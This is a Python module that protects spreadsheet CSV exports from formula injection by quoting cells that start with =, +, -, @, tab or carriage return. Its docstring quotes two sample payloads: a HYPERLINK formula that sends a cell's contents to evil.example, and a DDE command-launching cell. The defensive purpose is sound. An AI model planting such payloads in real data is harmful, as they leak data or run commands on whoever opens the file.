"""CSV files a spreadsheet may open: no cell of ours is ever run as a formula.

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` (and, in some of them, a tab
or carriage return before one) as a formula. A company named `=HYPERLINK("https://evil.example?"&A1, "Click")` or
`=cmd|' /C calc'!A0` in our data would run in the spreadsheet of whoever opens the export (CSV or formula
injection, OWASP). Every export writes its cells through `csv_writer`, which puts a `'` in front of such a cell:
spreadsheets show the text as it was and run nothing. `restore` undoes it, so that a file we exported imports as it
was: the import reads its cells through it.

The two are exact inverses: a cell that already starts with quotes followed by a trigger gets one more quote, and
`restore` takes exactly one away. Numbers we write ourselves are never negative where a column means money, but a
phone number (`+44 20 ...`) or a negative figure gets the quote like any other text: correctness of the spreadsheet
over looks.
"""

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

# What makes a spreadsheet treat a cell as a formula (OWASP's list): = + - @, and tab or carriage return.
FORMULA_TRIGGERS = "=+-@\t\r"
_NEUTRALISED = re.compile(r"'+[" + re.escape(FORMULA_TRIGGERS) + "]")  # quotes, then a trigger


def neutralise(cell: str) -> str:
    """`cell` made safe to open in a spreadsheet: a `'` in front of one that starts with a formula trigger (or with
    quotes and then one, so that `restore` can tell them apart)."""
    if cell[:1] and (cell[0] in FORMULA_TRIGGERS or _NEUTRALISED.match(cell)):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The cell as it was before `neutralise` (one leading `'` taken off a neutralised cell; others unchanged)."""
    return cell[1:] if _NEUTRALISED.match(cell) else cell


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `neutralise` (None is written as an empty cell, like csv does).

    Lines end in CRLF, as RFC 4180 has it. Not only for form: Python's writer quotes a cell holding a character of
    its line terminator, so with a bare LF terminator a cell holding a CR (a pasted Windows text) went out unquoted,
    and every reader took that CR for the end of the row."""

    def __init__(self, out: _Writable, *, delimiter: str = ",") -> None:
        self._writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow(["" if value is None else neutralise(str(value)) for value in row])


def csv_writer(out: _Writable, *, delimiter: str = ",") -> SafeCsvWriter:
    """The CSV writer every export uses."""
    return SafeCsvWriter(out, delimiter=delimiter)
